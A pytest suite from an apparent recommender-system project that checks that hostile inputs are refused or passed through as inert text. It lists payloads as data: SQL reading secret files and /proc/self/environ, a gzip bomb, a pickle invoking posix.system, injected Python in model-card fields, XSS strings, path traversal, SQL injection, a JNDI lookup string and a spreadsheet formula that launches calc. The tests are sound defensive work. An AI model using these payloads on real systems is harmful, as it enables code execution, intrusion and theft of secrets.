"""Inputs that somebody made to do harm: each is refused, or shown as the text that it is.

What `recsys sql` refuses is in tests/catalog/test_query.py; what a browser shows of hostile titles
and ids, in tests/catalog/test_report.py; addresses with secrets, in tests/test_settings.py.
"""

from __future__ import annotations

import gzip
import json
import os
import resource
import stat
from pathlib import Path
from typing import Any

import duckdb
import pytest
import torch

from recsys import columns
from recsys.errors import DamagedError, RecsysError, SourceError
from recsys.ingest import batch, text_files
from recsys.ingest.batch import ingest
from recsys.ingest.check_source import check_source
from recsys.ingest.items import ingest_items
from recsys.lake.tables import Lake
from recsys.markdown import code_block, markdown_table
from recsys.model.recommender import Recommender
from recsys.settings import ItemSource, Settings, Source
from recsys.training import checkpoint
from tests import lakes
from tests.ingest.fuzz import no_contract
from tests.worlds import small

PLANTED = "a secret that lies beside the source"
ROW = "select 1 as user_id, 2 as item_id, timestamp '2026-01-02' as timestamp, {} as event"


# --- SQL that comes with a source

VIEWS = [
    "(select content from read_text('{secret}'))",
    "(select any_value(column0) from read_csv('{secret}', header = false))",
    "(select any_value(column0) from '{secret}')",
    "(select file from glob('{folder}/*'))",
    "(select content from read_text('{folder}/../{name}/secret.csv'))",
    "(select content from read_text('/proc/self/environ'))",
    "(select content from read_text('http://127.0.0.1:1/secret.csv'))",
    "getenv('HOME')",
]


@pytest.fixture
def beside(tmp_path: Path) -> Path:
    folder = tmp_path / "beside"
    folder.mkdir()
    (folder / "secret.csv").write_text(PLANTED)
    return folder


@pytest.mark.parametrize("how", ["view", "query"])
@pytest.mark.parametrize("reads", VIEWS)
def test_sql_of_a_source_reaches_its_own_file_alone(
    lake: Lake,
    settings: Settings,
    tmp_path: Path,
    beside: Path,
    record_property: pytest.RecordProperty,
    how: str,
    reads: str,
) -> None:
    select = ROW.format(reads.format(secret=beside / "secret.csv", folder=beside, name=beside.name))
    file = tmp_path / "s.duckdb"
    with duckdb.connect(file) as con:
        con.execute("create table t as select 1 as user_id")
        try:
            con.execute(f"create view v as {select}")
        except duckdb.Error:
            if how == "view":
                pytest.skip("DuckDB makes no such view")
    more = {"table": "v"} if how == "view" else {"query": select}
    for attempt in (check_source, ingest):
        with pytest.raises(SourceError) as refused:
            attempt(lake, settings, Source(uri=str(file), **more))
        assert PLANTED not in str(refused.value)
    assert not any(
        PLANTED.encode() in path.read_bytes()
        for path in Path(lake.root).rglob("*")
        if path.is_file()
    )
    record_property("counted hostile inputs", "SQL of a source")


@pytest.mark.parametrize("query", ["select secret from v", "select 1 as item_id, secret from v"])
def test_sql_of_a_source_of_items_reaches_its_own_file_alone(
    lake: Lake,
    settings: Settings,
    tmp_path: Path,
    beside: Path,
    record_property: pytest.RecordProperty,
    query: str,
) -> None:
    lakes.fill(lake, {1: [10]})
    file = tmp_path / "s.duckdb"
    with duckdb.connect(file) as con:
        con.execute(
            f"create view v as select content as secret from read_text('{beside}/secret.csv')"
        )
    with pytest.raises(SourceError, match="reaches that file alone"):
        ingest_items(lake, settings, ItemSource(uri=str(file), query=query))
    record_property("counted hostile inputs", "SQL of a source")


# --- files that swell


@pytest.mark.slow
@pytest.mark.parametrize("name", ["a.jsonl.gz", "a.csv.gz", "a.tsv.gz", "a.json.gz"])
@pytest.mark.parametrize("what", ["one line", "after the first row"])
def test_a_small_file_that_unzips_to_one_huge_line_takes_little_memory(
    settings: Settings,
    tmp_path: Path,
    record_property: pytest.RecordProperty,
    name: str,
    what: str,
) -> None:
    first = b'{"user_id": 1, "item_id": 2, "timestamp": "2026-01-02"}\n'
    if "json" not in name:
        sign = b"," if "csv" in name else b"\t"
        first = sign.join([b"user_id", b"item_id", b"timestamp"]) + b"\n"
    file = tmp_path / name
    with gzip.open(file, "wb", compresslevel=1) as out:
        if what != "one line":
            out.write(first)
        for _ in range(20):
            out.write(b"x" * (10 << 20))
    assert file.stat().st_size < 2 << 20
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(RecsysError, match=r"long|is empty"):
        ingest(Lake.from_settings(settings), settings, Source(uri=str(file)))
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) << 10
    assert grown < 4 * text_files.LONGEST_LINE, "it grows by the limit of a line, not by the file"
    record_property("counted hostile inputs", "file that swells")


# --- models


def _header(table: object) -> bytes:
    text = json.dumps(table).encode()
    return len(text).to_bytes(8, "little") + text


def _tensor(**changes: Any) -> bytes:
    tensor = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]} | changes
    return _header({"a": tensor}) + bytes(8)


WEIGHTS = {
    "no byte": b"",
    "a pickle": b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93.",
    "a header of 2^62 bytes": (1 << 62).to_bytes(8, "little") + b"{}",
    "a header longer than the file": (1000).to_bytes(8, "little") + b"{}",
    "a header that is no object": _header([1, 2]),
    "a header that is not JSON": (4).to_bytes(8, "little") + b"{{{{",
    "a deep header": (200_000).to_bytes(8, "little") + b"[" * 200_000,
    "a tensor beyond the end": _tensor(data_offsets=[0, 1 << 40]),
    "a tensor before the beginning": _tensor(data_offsets=[-8, 0]),
    "a tensor whose end is before its beginning": _tensor(data_offsets=[8, 0]),
    "a shape that overflows": _tensor(shape=[1 << 62, 1 << 62]),
    "a type that is none": _tensor(dtype="OBJECT"),
    "tensors of other names": _tensor(),
}
CARDS: dict[str, Any] = {
    "nested 100,000 deep": "[" * 100_000 + "]" * 100_000,
    "a trillion items": {"n_items": 10**12},
    "items below zero": {"n_items": -5},
    "items as text": {"n_items": "9"},
    "a width of a trillion": {"width": 10**12},
    "a billion blocks": {"blocks": 10**9},
    "a trillion steps": {"timesteps": 10**12, "steps": 10**12},
    "a length of a trillion": {"max_length": 10**12},
    "a field that is none": {"__class__": "os.system"},
    "no heads": {"heads": 0},
    "a number that is none": {"temperature": float("nan")},
    "a preset as code": {"activation": "__import__('os').system('id')"},
}


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("model")
    checkpoint.save(folder, Recommender(small("best").model, 9, torch.Generator()), {})
    return folder


@pytest.mark.parametrize("what", WEIGHTS)
def test_hostile_weights_are_damaged_ones(
    saved: Path, tmp_path: Path, record_property: pytest.RecordProperty, what: str
) -> None:
    (tmp_path / "model.json").write_bytes((saved / "model.json").read_bytes())
    (tmp_path / "model.safetensors").write_bytes(WEIGHTS[what])
    with pytest.raises(DamagedError, match="is damaged or from another version"):
        checkpoint.load(tmp_path)
    record_property("counted hostile inputs", "file of a model")


@pytest.mark.parametrize("what", CARDS)
def test_a_hostile_card_is_a_damaged_one(
    saved: Path, tmp_path: Path, record_property: pytest.RecordProperty, what: str
) -> None:
    card, changes = json.loads((saved / "model.json").read_text()), CARDS[what]
    if isinstance(changes, str):
        text = changes
    else:
        n_items = changes.get("n_items", card["n_items"])
        fields = {name: value for name, value in changes.items() if name != "n_items"}
        text = json.dumps({**card, "n_items": n_items, "model": {**card["model"], **fields}})
    (tmp_path / "model.json").write_text(text)
    (tmp_path / "model.safetensors").write_bytes((saved / "model.safetensors").read_bytes())
    with pytest.raises(DamagedError, match="is damaged or from another version"):
        checkpoint.load(tmp_path)
    record_property("counted hostile inputs", "file of a model")


# --- text in Markdown


CELLS = [
    "a | b | c",
    "a\n| b | c |\n\n# A heading",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![](http://other.example/pixel.png)",
    "a\r\n\r\n<iframe src=//other.example>",
]


@pytest.mark.parametrize("cell", CELLS)
def test_a_hostile_cell_stays_a_cell(cell: str, record_property: pytest.RecordProperty) -> None:
    lines = markdown_table(["name", "value"], [["a", "b"], [cell, "1"]])
    assert len(lines) == 5, "it makes no line of its own"
    assert all(line.replace("\\|", "").count("|") == 3 for line in lines[:-1])
    assert not any(mark in line for line in lines for mark in ("<", "](", "\n", "\r"))
    record_property("counted hostile inputs", "text in Markdown")


@pytest.mark.parametrize("text", ["```\n<script>alert(1)</script>", "a ````` b", "~~~\n# head"])
def test_a_hostile_error_stays_in_its_block(
    text: str, record_property: pytest.RecordProperty
) -> None:
    first, *inside, last = code_block(text).split("\n")
    assert first == last
    assert set(first) == {"`"}
    assert "\n".join(inside) == text
    assert all(first not in line for line in inside)
    record_property("counted hostile inputs", "text in Markdown")


# --- the lake's folder


def test_a_lake_that_is_made_is_for_its_user_alone(settings: Settings) -> None:
    before = os.umask(0o022)
    try:
        with Lake.from_settings(settings).write_lock("a test"):
            pass
    finally:
        os.umask(before)
    assert stat.S_IMODE(Path(settings.lake).stat().st_mode) == 0o700


IDS = [
    "../../etc/passwd",
    "/etc/passwd",
    "'; drop table interactions; --",
    '"; delete from items; --',
    "$1",
    "{{ 7 * 7 }}",
    "\x00\x01\x02",
    "\x1b]0;owned\x07",
    "\u202e\u2066abc",
    "=cmd|' /C calc'!A1",
    "${jndi:ldap://other.example/a}",
    "%s%s%s%n",
]


@pytest.mark.slow
def test_hostile_ids_come_out_as_they_went_in(
    lake: Lake,
    settings: Settings,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    record_property: pytest.RecordProperty,
) -> None:
    monkeypatch.setattr(batch, "check_contract", no_contract)
    file = tmp_path / "a.jsonl"
    rows = [
        {"user_id": one, "item_id": one, "timestamp": "2026-01-02", "event": one} for one in IDS
    ]
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    ingest(lake, settings, Source(uri=str(file)))
    stored = lake.rows(columns.INTERACTIONS).to_pylist()
    for name in ("user_id", "item_id", "event"):
        assert sorted(row[name] for row in stored) == sorted(IDS)
    record_property("counted hostile inputs", ("id", len(IDS)))
